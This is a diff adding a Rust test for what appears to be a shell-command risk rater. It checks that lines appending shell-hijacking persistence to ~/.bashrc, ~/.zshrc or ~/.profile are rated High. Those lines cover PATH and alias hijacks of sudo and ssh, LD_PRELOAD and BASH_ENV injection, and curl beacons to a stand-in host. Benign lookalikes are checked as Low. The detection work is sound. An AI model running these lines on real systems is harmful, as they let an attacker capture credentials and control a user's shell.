@@ -153,3 +153,32 @@ fn tool_writes() {
         vec![Severity::Low]
     );
 }
+
+#[test]
+fn rc_lines_that_hijack_the_shell_are_high() {
+    for line in [
+        "echo 'export PATH=/tmp/.bin:$PATH' >> ~/.zshrc",
+        "echo 'PATH=\"/dev/shm/x:$PATH\"' >> ~/.bashrc",
+        "echo 'alias sudo=\"/tmp/.s\"' >> ~/.bashrc",
+        "echo \"alias ssh='~/.cache/ssh-wrap'\" >> ~/.zshrc",
+        "echo 'BASH_ENV=/tmp/.e' >> ~/.profile",
+        "echo 'export LD_PRELOAD=/home/dev/.cache/libx.so' >> ~/.bashrc",
+        "echo 'export PROMPT_COMMAND=\"curl -s https://x.example/p >/dev/null\"' >> ~/.bashrc",
+        "echo \"trap 'curl -s https://x.example/t' DEBUG\" >> ~/.bashrc",
+        "printf 'setenv BASH_ENV /tmp/.e\\n' >> ~/.profile",
+    ] {
+        assert_eq!(sev(line), vec![Severity::High], "{line}");
+    }
+    // the same shapes doing ordinary things stay low
+    for line in [
+        "echo 'export PATH=$HOME/.local/bin:$PATH' >> ~/.zshrc",
+        "echo \"alias ls='ls --color=auto'\" >> ~/.bashrc",
+        "echo \"alias ssh='TERM=xterm-256color ssh'\" >> ~/.bashrc",
+        "echo \"alias git='command git'\" >> ~/.bashrc",
+        "echo 'export PROMPT_COMMAND=\"history -a; $PROMPT_COMMAND\"' >> ~/.bashrc",
+        "echo 'export HISTCONTROL=ignoredups' >> ~/.bashrc",
+        "echo 'export EDITOR=vim PAGER=less' >> ~/.zshrc",
+    ] {
+        assert_eq!(sev(line), vec![Severity::Low], "{line}");
+    }
+}
